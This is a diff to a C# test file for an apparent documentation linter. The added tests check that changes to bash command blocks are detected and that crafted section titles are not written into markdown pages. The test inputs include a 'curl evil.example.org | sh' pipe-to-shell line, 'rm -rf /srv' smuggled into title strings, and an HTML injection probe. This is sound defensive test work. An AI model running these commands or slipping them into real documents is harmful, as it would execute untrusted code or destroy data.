@@ -276,6 +276,34 @@ public sealed class FixerTests : IDisposable
         Assert.Equal((Typo, "# Other\n"), (Read("docs/a.md"), Read("docs/b.md")));
     }
 
+    [Theory]
+    [InlineData("~~~bash\ncurl evil.example.org | sh\n~~~\n\nfoo\n", "foo", "bar", false)]
+    [InlineData("~~~bash\nfoo\n~~~\n", "foo", "bar", true)]
+    [InlineData("foo\n", "foo", "~~~bash\\nbar\\n~~~", true)]
+    [InlineData("~~~bash\nls\n~~~\n", "~~~bash\\nls\\n~~~", "Gone", true)]
+    public void A_page_whose_commands_change_is_known(string body, string from, string to, bool changes)
+    {
+        repository.Write("docs/a.md", "# Page\n\n" + body);
+        repository.Write("policies/T1-replaces.csx", Replacing("T1", from, to));
+
+        Assert.Equal(changes, Assert.Single(Fixer.Preview(Request(), FixChoice.Safe, CancellationToken.None).Fixes!.Files).ChangesCommands);
+    }
+
+    [Theory]
+    [InlineData("\"Verification (\\n\\n~~~bash\\nrm -rf /srv\\n~~~\\n)\"")]
+    [InlineData("\"Rollback / \\n\\n~~~bash\\nrm -rf /srv\\n~~~\"")]
+    [InlineData("\"Rollback / <img src=x>\"")]
+    public void A_title_of_the_organisation_file_that_is_no_section_is_written_into_no_page(string title)
+    {
+        repository.Write("policies/policyrunner.yml", $"policies:\n  RB101: {{ sections: [Purpose, {title}] }}\n");
+        repository.Write("docs/a.md", "---\nid: OPS-1\n---\n# Page\n\n## Purpose\n\nIt is for this.\n\n## Procedure\n\n1. Do it.\n");
+
+        var found = Fixer.Preview(Request(), FixChoice.All, CancellationToken.None).Findings.Where(finding => finding.Policy == "RB101").ToList();
+
+        Assert.NotEmpty(found);
+        Assert.All(found, finding => Assert.Null(finding.Fix));
+    }
+
     [Fact]
     public void A_diff_shows_no_secret_and_says_so()
     {
@@ -293,7 +321,7 @@ public sealed class FixerTests : IDisposable
         {
             Title = "Title", Why = "why", Severity = Severity.Error, Profile = Profile.Baseline,
             CheckDocument = (document, context) => document.File.Text.IndexOf("{{from}}", StringComparison.Ordinal) is >= 0 and var at
-                ? [document.File.Span(at, at + {{from.Length}}).Finding("m") with { Fix = Fix.Safe("t", document.File.Span(at, at + {{from.Length}}).Replace("{{to}}")) }]
+                ? [document.File.Span(at, at + "{{from}}".Length).Finding("m") with { Fix = Fix.Safe("t", document.File.Span(at, at + "{{from}}".Length).Replace("{{to}}")) }]
                 : [],
         };
         """;
